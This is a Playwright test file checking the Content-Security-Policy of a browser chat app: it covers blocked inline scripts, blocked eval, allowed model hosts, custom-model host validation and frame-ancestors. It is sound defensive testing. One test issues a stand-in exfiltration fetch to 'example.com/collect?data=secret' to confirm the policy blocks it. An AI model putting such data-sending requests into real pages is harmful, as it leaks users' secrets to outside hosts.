/**
 * Issue 6 §1 and issue 14, content security: the built site runs with its Content-Security-Policy on
 * (the <meta> from the build and the `_headers` file, served by scripts/serveBuild.ts), and every test
 * fails on a violation (helpers/test.ts). These tests show that the watch really catches violations,
 * that connect-src lists only the model hosts the app downloads from plus the deployment's own
 * (CALLAMA_MODEL_HOSTS=https://models.example in the test build, see playwright.config.ts), that the
 * custom-model form refuses any other host and says how the site owner allows it, and that only the
 * deploy-time origins (http://localhost:*) can frame the widget.
 */
import { fileURLToPath } from 'node:url';
import { test, expect, type Page } from './helpers/test.ts';
import { APP_ORIGIN } from './helpers/origin.ts';
import { startStaticServer, type StaticServer } from '../../scripts/staticServer.ts';

const fixtures = fileURLToPath(new URL('../fixtures/embed/', import.meta.url));
let hostPages: StaticServer;

test.beforeAll(async () => {
  hostPages = await startStaticServer([{ prefix: '/', dir: fixtures }]);
});
test.afterAll(async () => {
  await hostPages.close();
});

/** fetch() from the page: 'ok' or the error's name. */
function fetchFromPage(page: Page, url: string): Promise<string> {
  return page.evaluate(
    (u) =>
      fetch(u).then(
        () => 'ok',
        (e: unknown) => (e instanceof Error ? e.name : String(e)),
      ),
    url,
  );
}

/** The connect-src sources of a policy string. */
function connectSrc(policy: string): string[] {
  const directive = policy
    .split(';')
    .map((d) => d.trim().split(/\s+/))
    .find(([name]) => name === 'connect-src');
  return directive?.slice(1) ?? [];
}

test('an inline script is refused, and the watch reports it as a violation that would fail the test', async ({
  page,
  csp,
}) => {
  await page.goto('./');
  await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
  const outcome = await page.evaluate(async () => {
    const refused = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
    });
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    // An inline script that is allowed runs during append, so this reads the outcome.
    document.head.append(script);
    const ran = (window as unknown as { __injected?: boolean }).__injected === true;
    return { ran, directive: await refused };
  });
  expect(outcome).toEqual({ ran: false, directive: expect.stringMatching(/^script-src/) as unknown });
  // Unexpected until declared: this is what fails any other test.
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toMatch(/script-src/);
  csp.expectViolation(/script-src|inline script/);
});

test("eval is refused in the app's origin", async ({ page, csp }) => {
  await page.goto('./');
  await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
  // Playwright's own evaluation is exempt from the policy; a string timer is compiled by the page.
  const outcome = await page.evaluate(async () => {
    const refused = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
    });
    (setTimeout as (code: string, ms: number) => number)('window.__evaled = true', 0);
    // Timers with the same delay run in the order they were set: by the time this one runs, the
    // string timer has run too, had it been compiled.
    const after = new Promise((resolve) => setTimeout(resolve, 0));
    const [directive] = await Promise.all([refused, after]);
    return { evaluated: (window as unknown as { __evaled?: boolean }).__evaled === true, directive };
  });
  expect(outcome).toEqual({ evaluated: false, directive: expect.stringMatching(/^script-src/) as unknown });
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toMatch(/unsafe-eval|script-src/);
  csp.expectViolation(/unsafe-eval|script-src|evaluate a string/);
});

test("connect-src of the built pages lists exactly the model hosts and the deployment's own host", async ({ page }) => {
  const expected = [
    "'self'",
    'https://huggingface.co',
    'https://raw.githubusercontent.com',
    'https://*.huggingface.co',
    'https://*.hf.co',
    'http://localhost:*',
    'http://127.0.0.1:*',
    'https://models.example',
  ];
  for (const path of ['./', './index.html', './embed.html']) {
    const response = await page.goto(path);
    expect(connectSrc((await response?.headerValue('content-security-policy')) ?? ''), path).toEqual(expected);
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(connectSrc(meta ?? ''), path).toEqual(expected);
  }
});

test("the page may reach the catalog model hosts and the deployment's model host, but no other host", async ({
  page,
  context,
  csp,
}) => {
  await context.route(
    /^https:\/\/(huggingface\.co|raw\.githubusercontent\.com|models\.example|example\.com)\//,
    (route) => route.fulfill({ status: 200, body: '{}', headers: { 'access-control-allow-origin': '*' } }),
  );
  await page.goto('./');
  await expect(page.getByTestId('gpu-status')).toHaveText(/WebGPU/);
  expect(await fetchFromPage(page, 'https://huggingface.co/mlc-ai/x/resolve/main/mlc-chat-config.json')).toBe('ok');
  expect(await fetchFromPage(page, 'https://raw.githubusercontent.com/mlc-ai/binary-mlc-llm-libs/main/x.wasm')).toBe(
    'ok',
  );
  expect(await fetchFromPage(page, 'https://models.example/m/resolve/main/mlc-chat-config.json')).toBe('ok');
  // No https: catch-all: an injected script could not send anything to any other host.
  expect(await fetchFromPage(page, 'https://example.com/collect?data=secret')).toBe('TypeError');
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toContain('example.com');
  csp.expectViolation(/example\.com/);
});

test('the custom-model form refuses a host this deployment does not allow and says how the owner adds it', async ({
  page,
  context,
}) => {
  const asked: string[] = [];
  await context.route(/^https:\/\/(models|elsewhere)\.example\//, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ status: 200, body: '{}', headers: { 'access-control-allow-origin': '*' } });
  });
  await page.goto('./');
  await page.getByTestId('model-button').click();
  const picker = page.getByTestId('model-picker');
  await expect(picker.getByTestId('gpu-summary')).toBeVisible();
  await picker.getByText('Add a custom model').click();
  const form = picker.getByTestId('custom-model-form');
  await form.getByLabel('Display name').fill('My model');
  const weights = form.getByLabel('MLC weights URL');
  await weights.fill('https://elsewhere.example/my-model/resolve/main/');
  const library = form.getByRole('textbox', { name: 'Library URL' });
  await library.fill('https://elsewhere.example/libs/my-model-v0_2_86-webgpu.wasm');
  await form.getByLabel(/Check now/).check();
  await form.getByRole('button', { name: 'Save custom model' }).click();
  await expect(weights).toHaveAttribute('aria-invalid', 'true');
  await expect(weights).toBeFocused();
  for (const field of ['#cm-url-error', '#cm-lib-error']) {
    const error = page.locator(field);
    await expect(error).toContainText('This site does not allow downloads from https://elsewhere.example.');
    await expect(error).toContainText('adding it to CALLAMA_MODEL_HOSTS when building the site');
  }
  await expect(picker.getByTestId('custom-model')).toHaveCount(0);

  // The deployment's own model host: saved, and checked online at once (no reload needed).
  await weights.fill('https://models.example/my-model/resolve/main/');
  await library.fill('https://models.example/libs/my-model-v0_2_86-webgpu.wasm');
  await form.getByRole('button', { name: 'Save custom model' }).click();
  await expect(form.getByRole('status')).toContainText('Saved “My model”');
  await expect(picker.getByTestId('custom-model')).toHaveCount(1);
  expect(asked.length).toBeGreaterThan(0);
  expect(asked.every((u) => u.startsWith('https://models.example/my-model/'))).toBe(true);
});

test('only the deploy-time origins can frame the widget', async ({ page, csp }) => {
  await page.addInitScript(() => {
    window.__CALLAMA_FAKE__ = { loadMs: 50, rules: [{ match: 'hello', reply: 'Hello there.' }] };
  });
  // Allowed: a http://localhost page (the test build allows http://localhost:*).
  await page.goto(
    `${hostPages.url('localhost')}/framer.html?allowed=${encodeURIComponent(hostPages.url('localhost'))}&widget=${encodeURIComponent(APP_ORIGIN)}`,
  );
  const widget = page.frameLocator('iframe[title="Callama"]');
  await widget.getByTestId('embed-input').fill('hello');
  await widget.getByTestId('embed-input').press('Enter');
  await expect(widget.getByTestId('assistant-message').last()).toHaveText('Hello there.');

  // Refused: the same page from http://127.0.0.1, which is not on the list.
  await page.goto(
    `${hostPages.url('127.0.0.1')}/framer.html?allowed=${encodeURIComponent(hostPages.url('127.0.0.1'))}&widget=${encodeURIComponent(APP_ORIGIN)}`,
  );
  await expect
    .poll(() =>
      csp
        .unexpected()
        .map((v) => v.text)
        .join('\n'),
    )
    .toMatch(/frame-ancestors/);
  csp.expectViolation(/frame-ancestors/);
  await expect(page.frameLocator('iframe[title="Callama"]').getByTestId('embed-input')).toHaveCount(0);
});
